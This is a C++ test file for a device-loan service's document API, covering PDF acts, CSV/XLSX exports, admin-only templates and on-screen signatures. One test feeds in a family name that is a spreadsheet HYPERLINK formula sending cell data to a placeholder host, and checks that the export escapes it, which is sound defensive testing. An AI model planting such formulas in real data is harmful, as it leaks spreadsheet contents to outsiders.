// Documents over HTTP on the demo database: a PDF and an export with their content types,
// Russian filenames (RFC 5987) and content; templates editable by an admin only. Signatures
// drawn on screen and sent as PNG images appear on the acts they were given for (rasterised
// with pdftoppm, the ink found above each signature line located with pdftotext -bbox).
#include <gtest/gtest.h>

#include <boost/json.hpp>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <opencv2/imgcodecs.hpp>
#include <opencv2/imgproc.hpp>
#include <regex>

#include "api_client.hpp"
#include "shell.hpp"
#include "signature_png.hpp"

namespace prokat::testing {
namespace {

namespace json = boost::json;

TEST(ApiDocumentsTest, HandoverActPdfAndAgreementRegisterExport) {
  ApiServer server(true);
  auto staff = server.SignedIn("ivanova");
  auto list = staff->Get("/api/v1/register/agreements?from=2000-01-01&to=2100-01-01&limit=1");
  ASSERT_EQ(list.status, 200) << list.raw;
  const auto& items = list.body.at("items").as_array();
  ASSERT_FALSE(items.empty());
  const auto id = items[0].at("agreement_id").as_int64();

  auto pdf = staff->Get("/api/v1/agreements/" + std::to_string(id) + "/handover-act.pdf");
  ASSERT_EQ(pdf.status, 200) << pdf.raw.substr(0, 300);
  EXPECT_EQ(std::string(pdf.http["Content-Type"]), "application/pdf");
  EXPECT_NE(std::string(pdf.http["Content-Disposition"]).find("filename*=UTF-8''"),
            std::string::npos);
  EXPECT_EQ(pdf.raw.rfind("%PDF-", 0), 0u);

  auto csv = staff->Get("/api/v1/exports/agreements.csv?from=2000-01-01&to=2100-01-01");
  ASSERT_EQ(csv.status, 200) << csv.raw;
  EXPECT_EQ(std::string(csv.http["Content-Type"]), "text/csv; charset=utf-8");
  EXPECT_EQ(csv.raw.rfind("\xEF\xBB\xBF№ договора;", 0), 0u) << csv.raw.substr(0, 100);

  auto xlsx = staff->Get("/api/v1/exports/items.xlsx");
  ASSERT_EQ(xlsx.status, 200);
  EXPECT_EQ(xlsx.raw.rfind("PK", 0), 0u);
  EXPECT_EQ(staff->Get("/api/v1/exports/nope.csv").status, 404);

  EXPECT_EQ(staff->Post("/api/v1/templates/agreement", boost::json::object{{"text", "x"}}).status,
            403);
  auto admin = server.SignedIn("admin");
  auto published =
      admin->Post("/api/v1/templates/agreement", boost::json::object{{"text", "Новый текст"}});
  EXPECT_EQ(published.status, 201) << published.raw;
}

}  // namespace
}  // namespace prokat::testing

namespace prokat::testing {
namespace {

// What one page of a PDF shows at each signature place: the dark pixels in the band just
// above each line, found under the "подпись" caption (left to right).
struct SignaturePlaces {
  std::vector<int> ink;  // dark pixels above each line
  std::string text;      // pdftotext -layout of the whole document
};

SignaturePlaces Inspect(const TempDir& dir, const std::string& pdf, const std::string& name) {
  const std::string path = dir.File(name + ".pdf");
  std::ofstream(path, std::ios::binary) << pdf;
  // To look at the documents: PROKAT_DOCS_OUT=/some/dir keeps a copy of each.
  if (const char* keep = std::getenv("PROKAT_DOCS_OUT"))
    std::ofstream(std::string(keep) + "/signatures-" + name + ".pdf", std::ios::binary) << pdf;
  SignaturePlaces out;
  out.text = Shell("pdftotext -layout '" + path + "' -");
  std::smatch m;
  const std::string info = Shell("pdfinfo '" + path + "'");
  const int pages =
      std::regex_search(info, m, std::regex(R"(Pages:\s+(\d+))")) ? std::stoi(m[1]) : 0;
  if (pages == 0) return out;
  const std::string page = std::to_string(pages);
  const std::string boxes =
      Shell("pdftotext -bbox -f " + page + " -l " + page + " '" + path + "' -");
  constexpr double kScale = 2;  // 144 dpi
  Shell("pdftoppm -r 144 -png -singlefile -f " + page + " -l " + page + " '" + path + "' '" +
        dir.File(name) + "'");
  cv::Mat img = cv::imread(dir.File(name + ".png"), cv::IMREAD_GRAYSCALE);
  if (img.empty()) return out;
  const std::regex word(
      R"re(<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">подпись</word>)re");
  for (auto it = std::sregex_iterator(boxes.begin(), boxes.end(), word);
       it != std::sregex_iterator(); ++it) {
    const double cx = (std::stod((*it)[1]) + std::stod((*it)[3])) / 2;
    const double top = std::stod((*it)[2]);
    // The line is 1 pt above the caption; a signature's ink lies over it, a bare line's
    // caption 24 pt higher.
    cv::Rect band(static_cast<int>((cx - 45) * kScale), static_cast<int>((top - 19) * kScale),
                  static_cast<int>(90 * kScale), static_cast<int>(16 * kScale));
    band &= cv::Rect(0, 0, img.cols, img.rows);
    cv::Mat dark;
    cv::threshold(img(band), dark, 128, 255, cv::THRESH_BINARY_INV);
    out.ink.push_back(cv::countNonZero(dark));
  }
  return out;
}

class ApiActSignatures : public ApiSuite<ApiActSignatures> {
 protected:
  static void SetUpTestSuite() {
    ApiSuite::SetUpTestSuite();
    staff_ = server->SignedIn("staff").release();
    auto admin = server->SignedIn("admin");
    auto rules = admin->Post("/api/v1/rules", json::object{{"title", "Правила пользования ТСР"},
                                                           {"text", "1. Беречь."}});
    ASSERT_EQ(rules.status, 201) << rules.raw;
    auto type = admin->Post("/api/v1/item-types",
                            json::object{{"name", "Вертикализатор"},
                                         {"category", "rehabilitation"},
                                         {"rules_document_id", rules.body.at("document_id")}});
    ASSERT_EQ(type.status, 201) << type.raw;
    type_ = type.body.at("id").as_int64();
  }
  static void TearDownTestSuite() {
    delete staff_;
    staff_ = nullptr;
    ApiSuite::TearDownTestSuite();
  }

  static std::string Path(std::int64_t agreement, const std::string& tail = "") {
    return "/api/v1/agreements/" + std::to_string(agreement) + tail;
  }
  // A draft for a new family `representative` of one new item `number`, rules acknowledged.
  static std::int64_t Draft(const std::string& representative, const std::string& number) {
    auto family = staff_->Post("/api/v1/families",
                               json::object{{"representative", representative},
                                            {"phone", "+79131234567"},
                                            {"address", "с. Лебяжье, ул. Школьная, 3"},
                                            {"consent_on", "2026-02-20"},
                                            {"target_groups", json::array{"disabled_child"}}});
    EXPECT_EQ(family.status, 201) << family.raw;
    auto item = staff_->Post("/api/v1/items", json::object{{"inventory_number", number},
                                                           {"name", "Вертикализатор " + number},
                                                           {"type_id", type_}});
    EXPECT_EQ(item.status, 201) << item.raw;
    if (family.status != 201 || item.status != 201) return 0;
    auto draft =
        staff_->Post("/api/v1/agreements", json::object{{"family_id", family.body.at("id")},
                                                        {"items", json::array{item.body.at("id")}},
                                                        {"term_months", 3}});
    EXPECT_EQ(draft.status, 201) << draft.raw;
    if (draft.status != 201) return 0;
    const auto id = draft.body.at("id").as_int64();
    auto rules = staff_->Get(Path(id, "/rules"));
    for (const auto& r : rules.body.at("items").as_array()) {
      EXPECT_EQ(staff_
                    ->Post(Path(id, "/acknowledgments"),
                           json::object{{"rules_version_id", r.at("rules_version_id")}})
                    .status,
                201);
    }
    return id;
  }
  static ApiResponse Sign(std::int64_t id, const std::string& query) {
    return staff_->Send(boost::beast::http::verb::post, Path(id, "/signatures?" + query),
                        SignaturePng(), {{"Content-Type", "image/png"}});
  }

  static inline ApiClient* staff_ = nullptr;
  static inline std::int64_t type_ = 0;
  TempDir dir_;
};

// A name typed as a formula reaches the desk's spreadsheet as text.
TEST_F(ApiActSignatures, AFormulaInAFamilysNameIsExportedAsText) {
  const std::string name = "=HYPERLINK(\"http://x.example/?\"&A1;\"Смирнова\")";
  const auto id = Draft(name, "ФМ-0001");
  ASSERT_EQ(staff_->Post(Path(id, "/activate")).status, 201);
  auto csv = staff_->Get("/api/v1/exports/agreements.csv?from=2000-01-01&to=2100-01-01");
  ASSERT_EQ(csv.status, 200) << csv.raw;
  EXPECT_NE(csv.raw.find("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Смирнова\"\")\""),
            std::string::npos)
      << csv.raw.substr(0, 2000);
  EXPECT_EQ(csv.raw.find("\"=HYPERLINK"), std::string::npos);
  EXPECT_EQ(csv.raw.find(";=HYPERLINK"), std::string::npos);
}

TEST_F(ApiActSignatures, CapturedSignaturesAreDrawnOnTheActTheyWereGivenFor) {
  const auto signed_id = Draft("Экранова Мария Петровна", "ЭП-0001");
  ASSERT_EQ(Sign(signed_id, "occasion=handover&signer=family").status, 201);
  ASSERT_EQ(Sign(signed_id, "occasion=handover&signer=staff").status, 201);
  ASSERT_EQ(staff_->Post(Path(signed_id, "/activate")).status, 201);
  // The act is signed: a signature sent afterwards cannot change it.
  auto late = Sign(signed_id, "occasion=handover&signer=family");
  EXPECT_EQ(late.status, 422) << late.raw;
  EXPECT_EQ(late.ErrorCode(), "act_already_signed");
  EXPECT_EQ(Sign(signed_id, "occasion=handover&signer=director").status, 400);

  const auto paper_id = Draft("Бумажнова Ольга Ивановна", "БП-0001");
  ASSERT_EQ(staff_->Post(Path(paper_id, "/activate")).status, 201);

  auto act = staff_->Get(Path(signed_id, "/handover-act.pdf"));
  ASSERT_EQ(act.status, 200) << act.raw.substr(0, 300);
  auto signed_act = Inspect(dir_, act.raw, "signed");
  auto paper_act = Inspect(dir_, staff_->Get(Path(paper_id, "/handover-act.pdf")).raw, "paper");
  EXPECT_NE(signed_act.text.find("Экранова Мария Петровна"), std::string::npos) << signed_act.text;
  EXPECT_NE(signed_act.text.find("ЭП-0001"), std::string::npos);
  EXPECT_NE(paper_act.text.find("Бумажнова Ольга Ивановна"), std::string::npos);
  // Both places, "Передал" (staff) and "Принял" (family), carry ink over the line on the
  // signed act and none on the one signed on paper.
  ASSERT_EQ(signed_act.ink.size(), 2u) << signed_act.text;
  ASSERT_EQ(paper_act.ink.size(), 2u) << paper_act.text;
  std::cout << "ink above the lines: signed " << signed_act.ink[0] << ", " << signed_act.ink[1]
            << "; on paper " << paper_act.ink[0] << ", " << paper_act.ink[1] << "\n";
  for (int i = 0; i < 2; ++i) {
    EXPECT_GT(signed_act.ink[i], 150) << "place " << i;
    EXPECT_LT(paper_act.ink[i], 10) << "place " << i;
  }
  // The agreement carries the family's signature only (the point's director signs on paper).
  auto agreement = Inspect(dir_, staff_->Get(Path(signed_id, "/agreement.pdf")).raw, "agr");
  ASSERT_EQ(agreement.ink.size(), 2u) << agreement.text;
  EXPECT_LT(agreement.ink[0], 10);
  EXPECT_GT(agreement.ink[1], 150);

  // A return signed by the family only: its act has the family's ink and the staff member's
  // bare line; the handover act is unchanged.
  ASSERT_EQ(Sign(signed_id, "occasion=return&signer=family").status, 201);
  auto ret = staff_->Post(
      Path(signed_id, "/returns"),
      json::object{
          {"items",
           json::array{json::object{
               {"item_id",
                staff_->Get(Path(signed_id)).body.at("lines").as_array()[0].at("item_id")}}}}});
  ASSERT_EQ(ret.status, 201) << ret.raw;
  auto return_pdf =
      staff_->Get(Path(signed_id, "/return-acts/" + std::to_string(ret.body.at("id").as_int64()) +
                                      "/return-act.pdf"));
  ASSERT_EQ(return_pdf.status, 200) << return_pdf.raw.substr(0, 300);
  auto return_act = Inspect(dir_, return_pdf.raw, "return");
  EXPECT_NE(return_act.text.find("Акт возврата"), std::string::npos) << return_act.text;
  EXPECT_NE(return_act.text.find("Экранова Мария Петровна"), std::string::npos);
  ASSERT_EQ(return_act.ink.size(), 2u) << return_act.text;
  EXPECT_GT(return_act.ink[0], 150);  // "Сдал (Ссудополучатель)"
  EXPECT_LT(return_act.ink[1], 10);   // "Принял (Ссудодатель)": signed on paper
  EXPECT_EQ(Inspect(dir_, staff_->Get(Path(signed_id, "/handover-act.pdf")).raw, "again").ink,
            signed_act.ink);
  // The agreement is closed: no more return signatures.
  EXPECT_EQ(Sign(signed_id, "occasion=return&signer=family").ErrorCode(), "agreement_not_active");
}

}  // namespace
}  // namespace prokat::testing
